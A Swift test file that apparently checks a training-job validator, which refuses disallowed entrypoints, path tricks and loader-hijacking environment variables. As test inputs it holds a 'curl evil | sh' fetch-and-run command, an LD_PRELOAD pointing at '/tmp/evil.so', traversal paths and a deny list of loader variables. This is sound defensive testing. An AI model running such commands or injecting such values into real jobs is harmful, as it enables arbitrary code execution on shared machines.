import ArchonModel
import Testing

@testable import ArchonCore

/// What a job may run is refused at validation, with the reason, before any agent sees it.
@Suite struct ExecutionRulesTests {
    let datasets = [DatasetRecord(dataset: Dataset(id: "ds-1", location: "/data/ds-1"), registeredAtMs: 0)]

    func problems(_ spec: JobSpec, policy: ValidationPolicy = ValidationPolicy()) -> [String] {
        SpecValidator(policy: policy).problems(in: spec, datasets: datasets, nodes: [NodeRecord]()).map(\.description)
    }

    @Test func anEntrypointOutsideTheAllowlistIsRefusedWithWhatIsAllowed() {
        var job = spec("job-1")
        job.command = ["/tmp/evil", "--now"]
        #expect(problems(job) == [
            "command: '/tmp/evil' is not an allowed entrypoint; allowed: python3, /usr/bin/python3, /usr/local/bin/python3 "
                + "(a name is looked up in the agent's PATH, not the job's; an entry ending in '/' allows the programs under it)"
        ])
        job.command = ["sh", "-c", "curl evil | sh"]
        #expect(problems(job).first?.hasPrefix("command: 'sh' is not an allowed entrypoint") == true)
    }

    @Test func ldPreloadInTheEnvironmentIsRefusedWithTheReason() {
        var job = spec("job-1")
        job.env = ["LD_PRELOAD": "/tmp/evil.so", "NCCL_DEBUG": "WARN", "GLIBC_TUNABLES": "glibc.malloc.check=3"]
        #expect(problems(job) == [
            "env.GLIBC_TUNABLES: may not be set by a job: it changes how the loader, libc or an interpreter runs the program (denied by 'GLIBC_TUNABLES')",
            "env.LD_PRELOAD: may not be set by a job: it changes how the loader, libc or an interpreter runs the program (denied by 'LD_*')",
        ])
    }

    @Test func theSubmissionIsRejectedWithEveryReason() {
        var fleet = FleetController()
        var job = spec("job-1", dataset: "")
        job.command = ["/tmp/evil"]
        job.env = ["LD_PRELOAD": "/tmp/evil.so"]
        let actions = fleet.jobSubmitted(job, at: 0)
        guard case .rejectJob(let id, let problems, _) = actions.first else {
            Issue.record("expected a rejection, got \(actions)")
            return
        }
        #expect(id == "job-1")
        #expect(problems.map(\.field) == ["command", "env.LD_PRELOAD"])
        #expect(fleet.state.jobs["job-1"] == nil)
    }

    @Test func allowedEntrypointsAndOrdinaryVariablesPass() {
        var policy = ValidationPolicy()
        policy.entrypoints = ["python3", "/usr/bin/torchrun", "/opt/trainers/"]
        for command in [["python3", "train.py"], ["/usr/bin/torchrun", "--nproc-per-node=8", "t.py"], ["/opt/trainers/resnet/train"]] {
            var job = spec("job-1")
            job.command = command
            job.env = ["NCCL_DEBUG": "WARN", "CUDA_VISIBLE_DEVICES": "0", "TMPDIR": "/scratch", "PATH": "/usr/bin:/bin"]
            #expect(problems(job, policy: policy).isEmpty, "\(command)")
        }
    }

    @Test func pathTricksNeverMatchAnAllowedDirectory() {
        let rules = ExecutionRules(entrypoints: ["/opt/trainers/", "python3"])
        #expect(rules.entrypointRefusal(["/opt/trainers/../../tmp/evil"])?.contains("not a plain absolute path") == true)
        #expect(rules.entrypointRefusal(["/opt/trainers//x"])?.contains("not a plain absolute path") == true)
        #expect(rules.entrypointRefusal(["/opt/trainers/"]) != nil)
        #expect(rules.entrypointRefusal(["/opt/trainersevil/x"]) != nil)
        #expect(rules.entrypointRefusal(["./python3"])?.contains("relative path") == true)
        #expect(rules.entrypointRefusal(["bin/python3"])?.contains("relative path") == true)
        #expect(rules.entrypointRefusal(["/usr/bin/python3"]) != nil, "a name allows only the name")
        #expect(rules.entrypointRefusal([]) == "required: the argv of the training process")
        #expect(ExecutionRules(entrypoints: []).entrypointRefusal(["python3"])?.contains("allowed: none") == true)
    }

    @Test func environmentPatternsAreNamesOrPrefixes() {
        let rules = ExecutionRules(deniedEnvironment: ["LD_*", "GCONV_PATH"])
        #expect(rules.denyingPattern(for: "LD_LIBRARY_PATH") == "LD_*")
        #expect(rules.denyingPattern(for: "GCONV_PATH") == "GCONV_PATH")
        #expect(rules.denyingPattern(for: "GCONV_PATHS") == nil)
        #expect(rules.denyingPattern(for: "ld_preload") == nil, "names are case-sensitive, as the loader reads them")
        #expect(rules.environmentProblems(["A=B": "x"]).map(\.message) == ["not a valid environment variable name (empty, or contains '=' or NUL)"])
        for name in ["LD_PRELOAD", "LD_AUDIT", "GLIBC_TUNABLES", "PYTHONPATH", "BASH_ENV", "MALLOC_CHECK_"] {
            #expect(ExecutionRules().denyingPattern(for: name) != nil, "\(name) is denied by default")
        }
    }

    @Test func aPolicyWithMalformedRulesIsRejectedAtItsLine() throws {
        let text = """
            validation:
              entrypoints: [python3, "bin/train", "/opt/../x/"]
              deniedEnvironment: ["LD_*", "A*B", ""]
            """
        #expect {
            try Policy.parse(text, fileName: "policy.yaml")
        } throws: { error in
            guard let error = error as? PolicyError else { return false }
            return error.issues.map(\.path) == [
                "validation.entrypoints[1]", "validation.entrypoints[2]", "validation.deniedEnvironment[1]", "validation.deniedEnvironment[2]",
            ]
        }
        let custom = try Policy.parse("validation:\n  entrypoints: [/opt/trainers/]\n", fileName: "policy.yaml")
        #expect(custom.validation.entrypoints == ["/opt/trainers/"])
        #expect(custom.validation.deniedEnvironment == ExecutionRules.defaultDeniedEnvironment)
    }
}
